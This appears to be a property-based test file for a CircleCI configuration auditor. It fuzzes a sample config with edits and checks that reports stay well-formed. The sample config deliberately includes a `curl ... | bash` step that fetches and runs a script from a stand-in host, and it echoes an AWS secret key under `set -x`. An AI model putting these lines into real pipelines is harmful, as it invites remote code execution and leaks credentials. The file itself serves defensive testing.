/** Whatever the text: the audit ends, says what it could not do, and every place is inside its file. */
import { fc } from "./property.ts";
import { expect, test } from "vitest";
import { lint, type Report } from "../src/index.ts";

const config = `version: 2.1
orbs: {node: circleci/node@5, mine: {commands: {say: {parameters: {x: {type: string}}, steps: [{run: "echo << parameters.x >>"}]}}}}
x: &steps
  - checkout
  - run: |
      set -x
      curl -s https://a.example/x.sh | bash
      echo "$AWS_SECRET_ACCESS_KEY" << pipeline.git.branch >>
jobs:
  build:
    parameters: {v: {type: string, default: "1"}}
    docker: [{image: "cimg/node:<< parameters.v >>", auth: {username: a, password: made-up}}]
    environment: {A: b}
    steps: *steps
  deploy: {machine: true, circleci_ip_ranges: true, steps: [{mine/say: {x: << pipeline.number >>}}, {when: {condition: {equal: [a, << pipeline.git.tag >>]}, steps: [add_ssh_keys]}}]}
workflows:
  main:
    when: {not: << pipeline.git.tag >>}
    jobs:
      - build: {matrix: {parameters: {v: ["1", latest]}}, context: [one]}
      - hold: {type: approval}
      - deploy: {requires: [hold, {build-1: [success, failed]}], filters: {tags: {only: /^v.*/}}}
`;

/** Edits that keep much of the structure: what people and attackers write is near something valid. */
const edited = fc
  .array(
    fc.record({
      at: fc.nat({ max: config.length }),
      remove: fc.nat({ max: 12 }),
      insert: fc.oneof(
        fc.string({ maxLength: 6 }),
        fc.constantFrom(
          "\n",
          "  ",
          "- ",
          ": ",
          "&a ",
          "*steps",
          "<<: *steps",
          "<< parameters.v >>",
          "|\n",
          '"',
          "'",
          "{",
          "}",
          "[",
          "]",
          "$(",
          "<<EOF\n",
          "\\<<",
          "#",
        ),
      ),
    }),
    { minLength: 1, maxLength: 6 },
  )
  .map((edits) => edits.reduce((text, { at, remove, insert }) => text.slice(0, at) + insert + text.slice(at + remove), config));

function check(report: Report): void {
  expect(report.problems.filter((problem) => problem.code === "internal-error")).toEqual([]);
  expect(report.coverage.filter((note) => note.status === "failed")).toEqual([]);
  for (const { location, related, trace } of report.findings) {
    for (const { file, span } of [location, ...related, ...trace]) {
      expect(span.start).toBeGreaterThanOrEqual(0);
      expect(span.end).toBeLessThanOrEqual(file.text.length);
      expect(span.end).toBeGreaterThanOrEqual(span.start);
    }
    expect(location.span.end).toBeGreaterThan(location.span.start);
  }
}

test("configurations with edits", { timeout: 60_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(edited, async (text) =>
      check(await lint([{ path: "config.yml", text }], { profile: "auditor", today: "2026-11-21" })),
    ),
    { numRuns: 400 },
  );
});

test("any text at all", { timeout: 60_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: "binary", maxLength: 300 }), async (text) =>
      check(await lint([{ path: "config.yml", text }], { today: "2026-11-21" })),
    ),
    { numRuns: 200 },
  );
});

test("the same text gives the same report", async () => {
  const twice = await Promise.all([1, 2].map(() => lint([{ path: "config.yml", text: config }], { today: "2026-11-21" })));
  expect(JSON.stringify(twice[0])).toBe(JSON.stringify(twice[1]));
});
